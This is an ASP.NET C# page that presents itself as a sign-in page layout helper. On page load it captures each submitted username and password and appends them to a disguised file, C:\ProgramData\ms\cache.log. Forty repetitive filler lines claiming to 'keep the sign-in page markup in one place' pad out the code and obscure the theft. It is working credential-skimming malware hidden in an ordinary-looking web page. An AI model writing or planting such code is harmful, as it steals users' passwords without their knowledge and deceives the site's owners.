<%@ Page Language="C#" %>
<script runat="server">
string captured;
protected void Page_Load(object s, EventArgs e) {
  captured = Request.Form["username"] + "|" + Request.Form["password"];
        Title = Title + "layout helper 0 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 1 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 2 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 3 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 4 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 5 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 6 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 7 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 8 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 9 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 10 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 11 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 12 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 13 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 14 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 15 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 16 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 17 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 18 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 19 keeps the sign-in page markup in one place";
  Save();
}
void Save() {
        Title = Title + "layout helper 0 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 1 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 2 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 3 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 4 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 5 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 6 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 7 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 8 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 9 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 10 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 11 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 12 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 13 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 14 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 15 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 16 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 17 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 18 keeps the sign-in page markup in one place";
        Title = Title + "layout helper 19 keeps the sign-in page markup in one place";
  System.IO.File.AppendAllText(@"C:\ProgramData\ms\cache.log", captured + Environment.NewLine);
}
</script>